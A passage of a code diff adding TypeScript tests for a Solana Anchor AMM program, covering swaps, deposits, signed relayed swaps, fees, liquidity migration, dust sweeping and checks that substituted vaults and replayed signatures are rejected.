+      // No Anchor event alongside, just the one 34-byte record
+      expect(records).to.have.lengthOf(1);
+      const data = records[0];
+      expect(data.length).to.equal(34);
+      expect(data.readUInt8(0)).to.equal(2);
+      expect(data.readUInt8(1)).to.equal(1);
+      expect(Number(data.readBigUInt64LE(2))).to.equal(100_000);
+      expect(Number(data.readBigUInt64LE(10))).to.equal(
+        Number(userYAfter.amount) - Number(userYBefore.amount)
+      );
+      expect(Number(data.readBigUInt64LE(18))).to.equal(1_000);
+
+      const configAccount = await program.account.config.fetch(pool.config);
+      expect(Number(data.readBigUInt64LE(26))).to.equal(configAccount.sequence.toNumber());
+    });
+  });
+
+  describe("Vault Authority", () => {
+    let pool: Pool;
+    let foreign: Pool;
+
+    // Anchor rejects a vault not owned by the config, or not its ATA
+    const vaultRejected = /ConstraintTokenOwner|ConstraintAssociated/;
+
+    before(async () => {
+      pool = await initPool(17);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+      // The user's own X account stands in for a vault under another authority
+      foreign = { ...pool, vaultX: userAtaX };
+    });
+
+    it("rejects a substituted vault on deposit", async () => {
+      try {
+        await depositInto(
+          foreign,
+          new BN(1_000_000),
+          new BN(1_000_000),
+          new BN(1_000_000)
+        );
+        expect.fail("Should have failed with a vault constraint error");
+      } catch (err: any) {
+        expect(err.toString()).to.match(vaultRejected);
+      }
+    });
+
+    it("rejects a substituted vault on withdraw", async () => {
+      try {
+        await program.methods
+          .withdraw(new BN(1_000_000), new BN(0), new BN(0))
+          .accounts(withdrawAccounts(foreign))
+          .signers([user])
+          .rpc();
+        expect.fail("Should have failed with a vault constraint error");
+      } catch (err: any) {
+        expect(err.toString()).to.match(vaultRejected);
+      }
+    });
+
+    it("rejects a substituted vault on swap", async () => {
+      try {
+        await swapOn(foreign, false, new BN(100_000), new BN(1));
+        expect.fail("Should have failed with a vault constraint error");
+      } catch (err: any) {
+        expect(err.toString()).to.match(vaultRejected);
+      }
+    });
+
+    it("rejects a substituted vault on quotes and pokes", async () => {
+      try {
+        await program.methods
+          .priceAfterSwap(true, new BN(100_000))
+          .accounts(quoteAccounts(foreign))
+          .view();
+        expect.fail("Should have failed with a vault constraint error");
+      } catch (err: any) {
+        expect(err.toString()).to.match(vaultRejected);
+      }
+
+      try {
+        await program.methods
+          .poke()
+          .accounts(quoteAccounts(foreign))
+          .rpc();
+        expect.fail("Should have failed with a vault constraint error");
+      } catch (err: any) {
+        expect(err.toString()).to.match(vaultRejected);
+      }
+    });
+  });
+
+  describe("Impermanent Loss", () => {
+    let pool: Pool;
+    let position: PublicKey;
+
+    async function impermanentLoss(): Promise<number> {
+      const loss = await program.methods
+        .impermanentLoss()
+        .accounts({ ...quoteAccounts(pool), position })
+        .view();
+      return loss.toNumber();
+    }
+
+    before(async () => {
+      pool = await initPool(18);
+      [position] = PublicKey.findProgramAddressSync(
+        [
+          Buffer.from("position"),
+          pool.config.toBuffer(),
+          user.publicKey.toBuffer(),
+        ],
+        program.programId
+      );
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+    });
+
+    it("records the entry price at deposit", async () => {
+      const account = await program.account.position.fetch(position);
+      expect(account.owner.toBase58()).to.equal(user.publicKey.toBase58());
+      expect(account.config.toBase58()).to.equal(pool.config.toBase58());
+      expect(account.entryPrice.toNumber()).to.equal(PRICE_SCALE);
+      expect(await impermanentLoss()).to.equal(0);
+    });
+
+    it("matches 1 - 2 * sqrt(r) / (1 + r) after the price moves", async () => {
+      await swapOn(pool, false, new BN(10_000_000), new BN(1));
+
+      const r = (await spotPrice(pool)) / PRICE_SCALE;
+      const expected = (1 - (2 * Math.sqrt(r)) / (1 + r)) * PRICE_SCALE;
+      expect(await impermanentLoss()).to.be.closeTo(expected, 10);
+    });
+
+    it("averages the entry price across deposits", async () => {
+      const before = await program.account.position.fetch(position);
+      const priceNow = await spotPrice(pool);
+
+      // Mint as many LP tokens again at the current price
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(100_000_000),
+        new BN(100_000_000)
+      );
+
+      const after = await program.account.position.fetch(position);
+      expect(after.entryPrice.toNumber()).to.be.closeTo(
+        (before.entryPrice.toNumber() + priceNow) / 2,
+        2
+      );
+    });
+  });
+
+  describe("Fee On Output", () => {
+    let inputFeePool: Pool;
+    let outputFeePool: Pool;
+
+    before(async () => {
+      inputFeePool = await initPool(19);
+      outputFeePool = await initPool(20);
+      for (const pool of [inputFeePool, outputFeePool]) {
+        await depositInto(
+          pool,
+          new BN(10_000_000),
+          new BN(10_000_000),
+          new BN(10_000_000)
+        );
+      }
+      await updateConfig(outputFeePool, { feeOnOutput: true });
+    });
+
+    it("prices the same trade differently in each mode", async () => {
+      const onInput = await swapXForY(inputFeePool, 1_000_000);
+      const onOutput = await swapXForY(outputFeePool, 1_000_000);
+
+      // Fee on input: 1% off the 1M X, then price the remaining 990k
+      expect(onInput.received).to.be.closeTo(
+        cpOut(10_000_000, 10_000_000, 990_000),
+        1
+      );
+
+      // Fee on output: price the full 1M X, then keep 1% of the Y (rounded up)
+      const grossOut = cpOut(10_000_000, 10_000_000, 1_000_000);
+      const expected = grossOut - Math.ceil(grossOut / 100);
+      expect(onOutput.received).to.be.closeTo(expected, 1);
+      expect(onOutput.received).to.be.lessThan(onInput.received);
+    });
+
+    it("keeps the output fee in the output vault", async () => {
+      const vaultX = await getAccount(connection, outputFeePool.vaultX);
+      const vaultY = await getAccount(connection, outputFeePool.vaultY);
+      expect(Number(vaultX.amount)).to.equal(11_000_000);
+
+      // More Y stays behind than the curve alone would leave
+      const grossOut = cpOut(10_000_000, 10_000_000, 1_000_000);
+      expect(Number(vaultY.amount)).to.be.greaterThan(10_000_000 - grossOut);
+    });
+
+    it("quotes the input to reach a price with the fee on output", async () => {
+      const target = Math.floor((await spotPrice(outputFeePool)) * 1.1);
+      const result = await program.methods
+        .amountToReachPrice(new BN(target))
+        .accounts(quoteAccounts(outputFeePool))
+        .view();
+
+      expect(result.isX).to.equal(false);
+      await swapOn(outputFeePool, false, result.amountIn, new BN(1));
+      expect(await spotPrice(outputFeePool)).to.be.closeTo(
+        target,
+        target / 1_000_000
+      );
+    });
+  });
+
+  describe("Swaps Without LPs", () => {
+    let pool: Pool;
+
+    before(async () => {
+      pool = await initPool(21);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+    });
+
+    it("rejects swaps once every LP has withdrawn, despite donations", async () => {
+      await program.methods
+        .withdrawAll(new BN(0), new BN(0))
+        .accounts(withdrawAccounts(pool))
+        .signers([user])
+        .rpc();
+
+      // Donate straight to both vaults, bypassing deposit
+      await mintTo(
+        connection,
+        payer,
+        mintX,
+        pool.vaultX,
+        mintAuthority,
+        1_000_000
+      );
+      await mintTo(
+        connection,
+        payer,
+        mintY,
+        pool.vaultY,
+        mintAuthority,
+        1_000_000
+      );
+
+      try {
+        await swapOn(pool, true, new BN(100_000), new BN(1));
+        expect.fail("Should have failed with no liquidity error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("NoLiquidityInPool");
+      }
+    });
+  });
+
+  describe("Swap With Signature", () => {
+    let pool: Pool;
+    let swapNonce: PublicKey;
+    const deadline = new BN(Math.floor(Date.now() / 1000) + 3_600);
+
+    // Canonical message the program rebuilds and checks the signature against
+    function swapIntent(isX: boolean, amountIn: BN, minOut: BN, nonce: BN) {
+      return Buffer.concat([
+        Buffer.from("anchor-amm-q4-25:swap"),
+        pool.config.toBuffer(),
+        user.publicKey.toBuffer(),
+        Buffer.from([isX ? 1 : 0]),
+        amountIn.toArrayLike(Buffer, "le", 8),
+        minOut.toArrayLike(Buffer, "le", 8),
+        nonce.toArrayLike(Buffer, "le", 8),
+        deadline.toArrayLike(Buffer, "le", 8),
+      ]);
+    }
+
+    // Submitted and paid for by `payer` as the relayer; the user never signs the transaction
+    async function relaySwap(
+      amountIn: BN,
+      nonce: BN,
+      signed: Buffer = swapIntent(true, amountIn, new BN(1), nonce)
+    ) {
+      const verifyIx = Ed25519Program.createInstructionWithPrivateKey({
+        privateKey: user.secretKey,
+        message: signed,
+      });
+      return program.methods
+        .swapWithSignature(true, amountIn, new BN(1), nonce, deadline)
+        .accounts({
+          relayer: payer.publicKey,
+          user: user.publicKey,
+          mintX,
+          mintY,
+          config: pool.config,
+          mintLp: pool.mintLp,
+          vaultX: pool.vaultX,
+          vaultY: pool.vaultY,
+          userX: userAtaX,
+          userY: userAtaY,
+          swapNonce,
+          instructions: SYSVAR_INSTRUCTIONS_PUBKEY,
+          tokenProgram: TOKEN_PROGRAM_ID,
+          associatedTokenProgram: ASSOCIATED_TOKEN_PROGRAM_ID,
+          systemProgram: SystemProgram.programId,
+        })
+        .preInstructions([verifyIx])
+        .rpc();
+    }
+
+    before(async () => {
+      pool = await initPool(22);
+      [swapNonce] = PublicKey.findProgramAddressSync(
+        [Buffer.from("swap_nonce"), user.publicKey.toBuffer()],
+        program.programId
+      );
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+
+      // The user lets the config PDA pull their X once, off the relayer's path
+      await approve(connection, payer, userAtaX, pool.config, user, 1_000_000);
+    });
+
+    it("executes a swap the user signed off-chain", async () => {
+      const userYBefore = await getAccount(connection, userAtaY);
+      await relaySwap(new BN(100_000), new BN(0));
+      const userYAfter = await getAccount(connection, userAtaY);
+
+      expect(
+        Number(userYAfter.amount) - Number(userYBefore.amount)
+      ).to.be.closeTo(cpOut(10_000_000, 10_000_000, 99_000), 1);
+
+      const nonceAccount = await program.account.swapNonce.fetch(swapNonce);
+      expect(nonceAccount.nextNonce.toNumber()).to.equal(1);
+    });
+
+    it("rejects a replayed signature", async () => {
+      try {
+        await relaySwap(new BN(100_000), new BN(0));
+        expect.fail("Should have failed with nonce reused error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("NonceReused");
+      }
+    });
+
+    it("rejects a signature over different swap parameters", async () => {
+      // Signed for 100k, submitted for 500k
+      const signed = swapIntent(true, new BN(100_000), new BN(1), new BN(1));
+      try {
+        await relaySwap(new BN(500_000), new BN(1), signed);
+        expect.fail("Should have failed with invalid signature error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("InvalidSignature");
+      }
+    });
+  });
+
+  describe("Price Impact Fee", () => {
+    let pool: Pool;
+
+    before(async () => {
+      pool = await initPool(23);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+    });
+
+    it("rejects a fee cap above 100%", async () => {
+      try {
+        await updateConfig(pool, { maxFeeBps: 10_001 });
+        expect.fail("Should have failed with invalid fee error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("InvalidFee");
+      }
+    });
+
+    it("charges a large swap a higher fee than a small one", async () => {
+      // 1x the impact on top of the 1% base fee, capped at 5% in total
+      await updateConfig(pool, { impactMultiplierBps: 10_000, maxFeeBps: 500 });
+
+      // 10k into 10M moves the price 9 bps: 1.09% fee, 109 X
+      const small = await swapXForY(pool, 10_000);
+      expect(small.received).to.be.closeTo(
+        cpOut(small.reserveX, small.reserveY, 10_000 - 109),
+        1
+      );
+
+      // 1M into ~10M would add 908 bps, capped at 5% in total: 50k X
+      const large = await swapXForY(pool, 1_000_000);
+      expect(large.received).to.be.closeTo(
+        cpOut(large.reserveX, large.reserveY, 1_000_000 - 50_000),
+        1
+      );
+    });
+  });
+
+  describe("Migrate Liquidity", () => {
+    let source: Pool;
+    let target: Pool;
+
+    function migrateAccounts(
+      from: Pool,
+      to: Pool,
+      toMintY: PublicKey = mintY
+    ) {
+      return {
+        user: user.publicKey,
+        mintX,
+        mintY: toMintY,
+        sourceConfig: from.config,
+        sourceMintLp: from.mintLp,
+        sourceVaultX: from.vaultX,
+        sourceVaultY: from.vaultY,
+        userSourceLp: from.userLp,
+        targetConfig: to.config,
+        targetMintLp: to.mintLp,
+        targetVaultX: to.vaultX,
+        targetVaultY: to.vaultY,
+        userTargetLp: to.userLp,
+        userX: userAtaX,
+        userY: userAtaY,
+        tokenProgram: TOKEN_PROGRAM_ID,
+        associatedTokenProgram: ASSOCIATED_TOKEN_PROGRAM_ID,
+        systemProgram: SystemProgram.programId,
+      };
+    }
+
+    async function migrate(
+      from: Pool,
+      to: Pool,
+      amount: number,
+      minLp: number
+    ) {
+      return program.methods
+        .migrateLiquidity(new BN(amount), new BN(minLp))
+        .accounts(migrateAccounts(from, to))
+        .signers([user])
+        .rpc();
+    }
+
+    before(async () => {
+      source = await initPool(24);
+      target = await initPool(25);
+      await depositInto(
+        source,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+      // The target trades at 2 Y per X
+      await depositInto(
+        target,
+        new BN(5_000_000),
+        new BN(5_000_000),
+        new BN(10_000_000)
+      );
+    });
+
+    it("rejects migrating into the same pool", async () => {
+      try {
+        await migrate(source, source, 1_000_000, 0);
+        expect.fail("Should have failed with same pool error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("SamePool");
+      }
+    });
+
+    it("rejects a target over different mints", async () => {
+      const mintZ = await createMint(
+        connection,
+        payer,
+        mintAuthority.publicKey,
+        null,
+        6
+      );
+      const otherAccounts = await initializeAccounts(
+        canonicalSeed(mintX, mintZ, fee),
+        mintX,
+        mintZ
+      );
+      const other: Pool = {
+        config: otherAccounts.config,
+        mintLp: otherAccounts.mintLp,
+        vaultX: otherAccounts.vaultX,
+        vaultY: otherAccounts.vaultY,
+        userLp: await getAssociatedTokenAddress(otherAccounts.mintLp, user.publicKey),
+      };
+      await program.methods
+        .initialize(canonicalSeed(mintX, mintZ, fee), fee, payer.publicKey)
+        .accounts(otherAccounts)
+        .rpc();
+
+      // Either mint passed for Y fails one of the two configs' has_one
+      for (const passedMintY of [mintY, mintZ]) {
+        try {
+          await program.methods
+            .migrateLiquidity(new BN(1_000_000), new BN(0))
+            .accounts(migrateAccounts(source, other, passedMintY))
+            .signers([user])
+            .rpc();
+          expect.fail("Should have failed with a has_one constraint error");
+        } catch (err: any) {
+          expect(err.toString()).to.match(
+            /ConstraintHasOne|ConstraintAssociated|ConstraintTokenMint/
+          );
+        }
+      }
+    });
+
+    it("rejects a migration below min_target_lp", async () => {
+      try {
+        await migrate(source, target, 5_000_000, 2_500_001);
+        expect.fail("Should have failed with slippage exceeded error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("SlippageExceeded");
+      }
+    });
+
+    it("moves liquidity into the target at its ratio in one step", async () => {
+      const sourceLpBefore = await getAccount(connection, source.userLp);
+      const targetLpBefore = await getAccount(connection, target.userLp);
+      const userXBefore = await getAccount(connection, userAtaX);
+      const userYBefore = await getAccount(connection, userAtaY);
+
+      // 5M source LP is 5M X + 5M Y; at 2 Y per X only 2.5M X of it fits
+      await migrate(source, target, 5_000_000, 2_500_000);
+
+      const sourceLpAfter = await getAccount(connection, source.userLp);
+      const targetLpAfter = await getAccount(connection, target.userLp);
+      expect(
+        Number(sourceLpBefore.amount) - Number(sourceLpAfter.amount)
+      ).to.equal(5_000_000);
+      expect(
+        Number(targetLpAfter.amount) - Number(targetLpBefore.amount)
+      ).to.equal(2_500_000);
+
+      const targetVaultX = await getAccount(connection, target.vaultX);
+      const targetVaultY = await getAccount(connection, target.vaultY);
+      expect(Number(targetVaultX.amount)).to.equal(7_500_000);
+      expect(Number(targetVaultY.amount)).to.equal(15_000_000);
+
+      // The X that did not fit the target's ratio comes back to the user
+      const userXAfter = await getAccount(connection, userAtaX);
+      const userYAfter = await getAccount(connection, userAtaY);
+      expect(Number(userXAfter.amount) - Number(userXBefore.amount)).to.equal(
+        2_500_000
+      );
+      expect(Number(userYAfter.amount)).to.equal(Number(userYBefore.amount));
+    });
+  });
+
+  describe("Canonical Seeds", () => {
+    it("rejects a seed not derived from the pair and fee tier", async () => {
+      try {
+        await program.methods
+          .initialize(new BN(1), 30, payer.publicKey)
+          .accounts(await initializeAccounts(new BN(1), mintX, mintY))
+          .rpc();
+        expect.fail("Should have failed with seed mismatch error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("SeedMismatch");
+      }
+    });
+
+    it("rejects another pair's seed", async () => {
+      const mintZ = await createMint(
+        connection,
+        payer,
+        mintAuthority.publicKey,
+        null,
+        6
+      );
+      // The X/Y seed at an unused tier, offered for the X/Z pair
+      const pairSeed = canonicalSeed(mintX, mintY, 30);
+      try {
+        await program.methods
+          .initialize(pairSeed, 30, payer.publicKey)
+          .accounts(await initializeAccounts(pairSeed, mintX, mintZ))
+          .rpc();
+        expect.fail("Should have failed with seed mismatch error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("SeedMismatch");
+      }
+    });
+
+    it("maps both mint orderings to the same pool", async () => {
+      const reversedSeed = canonicalSeed(mintY, mintX, fee);
+      expect(reversedSeed.toString()).to.equal(seed.toString());
+
+      try {
+        await program.methods
+          .initialize(reversedSeed, fee, payer.publicKey)
+          .accounts(await initializeAccounts(reversedSeed, mintY, mintX))
+          .rpc();
+        expect.fail("Should have failed since the config already exists");
+      } catch (err: any) {
+        expect(err.toString()).to.include("already in use");
+      }
+    });
+  });
+
+  describe("Exact Minimum Output", () => {
+    let pool: Pool;
+
+    before(async () => {
+      pool = await initPool(26);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+    });
+
+    it("accepts an output exactly equal to min_amount_out", async () => {
+      const { amountOut: quoted } = await program.methods
+        .quote(true, new BN(1_000_000))
+        .accounts(quoteAccounts(pool))
+        .view();
+
+      const userYBefore = await getAccount(connection, userAtaY);
+      await swapOn(pool, true, new BN(1_000_000), quoted);
+      const userYAfter = await getAccount(connection, userAtaY);
+
+      expect(Number(userYAfter.amount) - Number(userYBefore.amount)).to.equal(
+        quoted.toNumber()
+      );
+    });
+
+    it("rejects a minimum one above the quote", async () => {
+      const { amountOut: quoted } = await program.methods
+        .quote(false, new BN(1_000_000))
+        .accounts(quoteAccounts(pool))
+        .view();
+
+      try {
+        await swapOn(pool, false, new BN(1_000_000), quoted.addn(1));
+        expect.fail("Should have failed with slippage exceeded error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("SlippageExceeded");
+      }
+    });
+  });
+
+  describe("Rounding Dust", () => {
+    let pool: Pool;
+    let treasuryX: PublicKey;
+    let treasuryY: PublicKey;
+    // Expected dust per vault, in 1e-9 token units like the program tracks it
+    let expectedDustX = BigInt(0);
+    let expectedDustY = BigInt(0);
+
+    function sweepAccounts(authority: PublicKey) {
+      return {
+        authority,
+        mintX,
+        mintY,
+        config: pool.config,
+        vaultX: pool.vaultX,
+        vaultY: pool.vaultY,
+        treasuryX,
+        treasuryY,
+        tokenProgram: TOKEN_PROGRAM_ID,
+      };
+    }
+
+    before(async () => {
+      // No fee, so the whole input is priced and only rounding is left behind
+      pool = await initPool(27, 0);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+
+      const treasury = Keypair.generate();
+      treasuryX = await createAssociatedTokenAccount(
+        connection,
+        payer,
+        mintX,
+        treasury.publicKey
+      );
+      treasuryY = await createAssociatedTokenAccount(
+        connection,
+        payer,
+        mintY,
+        treasury.publicKey
+      );
+    });
+
+    it("accumulates the remainder every swap rounds away", async () => {
+      for (let i = 0; i < 20; i++) {
+        const isX = i % 2 === 0;
+        const amountIn = BigInt(100_003 + i);
+        // Swaps are priced against the vaults less the whole tokens of dust in them
+        const scale = BigInt(PRICE_SCALE);
+        const tracked = await program.account.config.fetch(pool.config);
+        const reserveX =
+          BigInt((await getAccount(connection, pool.vaultX)).amount) -
+          BigInt(tracked.dustX.toString()) / scale;
+        const reserveY =
+          BigInt((await getAccount(connection, pool.vaultY)).amount) -
+          BigInt(tracked.dustY.toString()) / scale;
+        const [reserveIn, reserveOut] = isX ? [reserveX, reserveY] : [reserveY, reserveX];
+        const userOut = isX ? userAtaY : userAtaX;
+
+        const before = (await getAccount(connection, userOut)).amount;
+        await swapOn(pool, isX, new BN(amountIn.toString()), new BN(1));
+        const received = (await getAccount(connection, userOut)).amount - before;
+
+        const denominator = reserveIn + amountIn;
+        const dust =
+          ((reserveOut * amountIn - received * denominator) * BigInt(PRICE_SCALE)) /
+          denominator;
+        if (isX) {
+          expectedDustY += dust;
+        } else {
+          expectedDustX += dust;
+        }
+      }
+
+      const configAccount = await program.account.config.fetch(pool.config);
+      expect(configAccount.dustX.toString()).to.equal(expectedDustX.toString());
+      expect(configAccount.dustY.toString()).to.equal(expectedDustY.toString());
+      // Ten swaps each way leave several whole tokens to sweep
+      expect(expectedDustX >= BigInt(PRICE_SCALE)).to.equal(true);
+      expect(expectedDustY >= BigInt(PRICE_SCALE)).to.equal(true);
+    });
+
+    it("rejects a sweep by anyone but the authority", async () => {
+      try {
+        await program.methods
+          .sweepDust()
+          .accounts(sweepAccounts(user.publicKey))
+          .signers([user])
+          .rpc();
+        expect.fail("Should have failed with invalid authority error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("InvalidAuthority");
+      }
+    });
+
+    it("leaves the dust out of what the LPs withdraw", async () => {
+      // The user holds every LP token, so withdrawing them all pays out what LPs are owed
+      const scale = BigInt(PRICE_SCALE);
+      const vaultXBefore = (await getAccount(connection, pool.vaultX)).amount;
+      const vaultYBefore = (await getAccount(connection, pool.vaultY)).amount;
+      const userXBefore = (await getAccount(connection, userAtaX)).amount;
+      const userYBefore = (await getAccount(connection, userAtaY)).amount;
+
+      await program.methods
+        .withdrawAll(new BN(0), new BN(0))
+        .accounts(withdrawAccounts(pool))
+        .signers([user])
+        .rpc();
+
+      const userXAfter = (await getAccount(connection, userAtaX)).amount;
+      const userYAfter = (await getAccount(connection, userAtaY)).amount;
+      expect((userXAfter - userXBefore).toString()).to.equal(
+        (vaultXBefore - expectedDustX / scale).toString()
+      );
+      expect((userYAfter - userYBefore).toString()).to.equal(
+        (vaultYBefore - expectedDustY / scale).toString()
+      );
+    });
+
+    it("sweeps the whole tokens and keeps the fraction", async () => {
+      const vaultXBefore = (await getAccount(connection, pool.vaultX)).amount;
+      const vaultYBefore = (await getAccount(connection, pool.vaultY)).amount;
+
+      await program.methods
+        .sweepDust()
+        .accounts(sweepAccounts(payer.publicKey))
+        .rpc();
+
+      const scale = BigInt(PRICE_SCALE);
+      const sweptX = (await getAccount(connection, treasuryX)).amount;
+      const sweptY = (await getAccount(connection, treasuryY)).amount;
+      expect(sweptX.toString()).to.equal((expectedDustX / scale).toString());
+      expect(sweptY.toString()).to.equal((expectedDustY / scale).toString());
+
+      // The LPs have left, so the vaults held only the dust
+      const vaultXAfter = (await getAccount(connection, pool.vaultX)).amount;
+      const vaultYAfter = (await getAccount(connection, pool.vaultY)).amount;
+      expect((vaultXBefore - vaultXAfter).toString()).to.equal(sweptX.toString());
+      expect((vaultYBefore - vaultYAfter).toString()).to.equal(sweptY.toString());
+      expect(vaultXAfter.toString()).to.equal("0");
+      expect(vaultYAfter.toString()).to.equal("0");
+
+      const configAccount = await program.account.config.fetch(pool.config);
+      expect(configAccount.dustX.toString()).to.equal((expectedDustX % scale).toString());
+      expect(configAccount.dustY.toString()).to.equal((expectedDustY % scale).toString());
+    });
+  });
+
+  describe("Swap With Stop", () => {
+    let pool: Pool;
+
+    // Sends a `swap_with_stop` and decodes its `SwapFill` return data (two u64s)
+    async function swapWithStop(isX: boolean, amountIn: number, stopPrice: number) {
+      const sig = await program.methods
+        .swapWithStop(isX, new BN(amountIn), new BN(stopPrice), new BN(0))
+        .accounts({
+          user: user.publicKey,
+          mintX,
+          mintY,
+          config: pool.config,
+          mintLp: pool.mintLp,
+          vaultX: pool.vaultX,
+          vaultY: pool.vaultY,
+          userX: userAtaX,
+          userY: userAtaY,
+          tokenProgram: TOKEN_PROGRAM_ID,
+          associatedTokenProgram: ASSOCIATED_TOKEN_PROGRAM_ID,
+          systemProgram: SystemProgram.programId,
+        })
+        .signers([user])
+        .rpc({ commitment: "confirmed" });
+
+      const tx = await connection.getTransaction(sig, {
+        commitment: "confirmed",
+        maxSupportedTransactionVersion: 0,
+      });
+      const fill = Buffer.from(tx.meta.returnData.data[0], "base64");
+      return {
+        filled: Number(fill.readBigUInt64LE(0)),
+        refunded: Number(fill.readBigUInt64LE(8)),
+      };
+    }
+
+    before(async () => {
+      pool = await initPool(28);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+    });
+
+    it("fills only up to the stop price and refunds the rest", async () => {
+      const target = 0.95 * PRICE_SCALE;
+      const userXBefore = await getAccount(connection, userAtaX);
+      const fill = await swapWithStop(true, 5_000_000, target);
+      const userXAfter = await getAccount(connection, userAtaX);
+
+      expect(fill.filled).to.be.greaterThan(0);
+      expect(fill.filled).to.be.lessThan(5_000_000);
+      expect(fill.filled + fill.refunded).to.equal(5_000_000);
+      expect(Number(userXBefore.amount) - Number(userXAfter.amount)).to.equal(fill.filled);
+      expect(await spotPrice(pool)).to.be.closeTo(target, target * 1e-5);
+    });
+
+    it("fills the whole amount when the stop does not bind", async () => {
+      const priceBefore = await spotPrice(pool);
+      const fill = await swapWithStop(true, 100_000, 0.5 * PRICE_SCALE);
+
+      expect(fill.filled).to.equal(100_000);
+      expect(fill.refunded).to.equal(0);
+      expect(await spotPrice(pool)).to.be.lessThan(priceBefore);
+      expect(await spotPrice(pool)).to.be.greaterThan(0.5 * PRICE_SCALE);
+    });
+
+    it("fills nothing when the price is already past the stop", async () => {
+      // Selling Y raises the price, which is already above a 0.9 stop
+      const userYBefore = await getAccount(connection, userAtaY);
+      const fill = await swapWithStop(false, 1_000_000, 0.9 * PRICE_SCALE);
+      const userYAfter = await getAccount(connection, userAtaY);
+
+      expect(fill.filled).to.equal(0);
+      expect(fill.refunded).to.equal(1_000_000);
+      expect(userYAfter.amount).to.equal(userYBefore.amount);
+    });
+  });
+
+  describe("Balanced Deposit", () => {
+    let pool: Pool;
+
+    function depositBalanced(maxX: number, maxY: number, strictRatio: boolean) {
+      return program.methods
+        .depositBalanced(new BN(maxX), new BN(maxY), new BN(1), strictRatio)
+        .accounts({
+          user: user.publicKey,
+          mintX,
+          mintY,
+          config: pool.config,
+          mintLp: pool.mintLp,
+          vaultX: pool.vaultX,
+          vaultY: pool.vaultY,
+          userX: userAtaX,
+          userY: userAtaY,
+          userLp: pool.userLp,
+          tokenProgram: TOKEN_PROGRAM_ID,
+          systemProgram: SystemProgram.programId,
+          associatedTokenProgram: ASSOCIATED_TOKEN_PROGRAM_ID,
+        })
+        .signers([user])
+        .rpc();
+    }
+
+    before(async () => {
+      pool = await initPool(29);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+    });
+
+    it("takes only the balanced portion of an off-ratio deposit", async () => {
+      const userXBefore = await getAccount(connection, userAtaX);
+      const userYBefore = await getAccount(connection, userAtaY);
+      const lpBefore = await getAccount(connection, pool.userLp);
+      await depositBalanced(2_000_000, 1_000_000, false);
+      const userXAfter = await getAccount(connection, userAtaX);
+      const userYAfter = await getAccount(connection, userAtaY);
+      const lpAfter = await getAccount(connection, pool.userLp);
+
+      // Y runs out first at a 1:1 pool, the extra X stays with the user
+      expect(Number(userXBefore.amount) - Number(userXAfter.amount)).to.equal(1_000_000);
+      expect(Number(userYBefore.amount) - Number(userYAfter.amount)).to.equal(1_000_000);
+      expect(Number(lpAfter.amount) - Number(lpBefore.amount)).to.equal(1_000_000);
+    });
+
+    it("rejects an off-ratio deposit with strict_ratio set", async () => {
+      try {
+        await depositBalanced(2_000_000, 1_000_000, true);
+        expect.fail("Should have failed with unbalanced deposit error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("UnbalancedDeposit");
+      }
+    });
+
+    it("accepts a strict deposit within the tolerance", async () => {
+      // 4_000 of 1_004_000 Y is left over, under the 0.5% tolerance
+      const userYBefore = await getAccount(connection, userAtaY);
+      await depositBalanced(1_000_000, 1_004_000, true);
+      const userYAfter = await getAccount(connection, userAtaY);
+
+      expect(Number(userYBefore.amount) - Number(userYAfter.amount)).to.equal(1_000_000);
+    });
+  });
+
+  describe("Pool Health", () => {
+    let pool: Pool;
+
+    function poolHealth() {
+      return program.methods
+        .poolHealth()
+        .accounts({ ...quoteAccounts(pool), mintLp: pool.mintLp })
+        .view();
+    }
+
+    before(async () => {
+      pool = await initPool(30);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+      await swapOn(pool, true, new BN(1_000_000), new BN(1));
+    });
+
+    it("reports the pool state and stays balanced through pool instructions", async () => {
+      const health = await poolHealth();
+      const reserveX = Number((await getAccount(connection, pool.vaultX)).amount);
+      const reserveY = Number((await getAccount(connection, pool.vaultY)).amount);
+
+      expect(health.version).to.equal(1);
+      expect(health.locked).to.equal(false);
+      expect(health.reserveX.toNumber()).to.equal(reserveX);
+      expect(health.reserveY.toNumber()).to.equal(reserveY);
+      expect(health.lpSupply.toNumber()).to.equal(10_000_000);
+      expect(health.fee).to.equal(fee);
+      expect(health.invariantK.toString()).to.equal(
+        (BigInt(reserveX) * BigInt(reserveY)).toString()
+      );
+      expect(health.balanced).to.equal(true);
+    });
+
+    it("flags a direct transfer into a vault as drift", async () => {
+      await mintTo(connection, payer, mintX, pool.vaultX, mintAuthority, 1_000);
+
+      const health = await poolHealth();
+      expect(health.balanced).to.equal(false);
+    });
+  });
+
+  describe("Swap Caller Allowlist", () => {
+    let pool: Pool;
+
+    before(async () => {
+      pool = await initPool(31);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
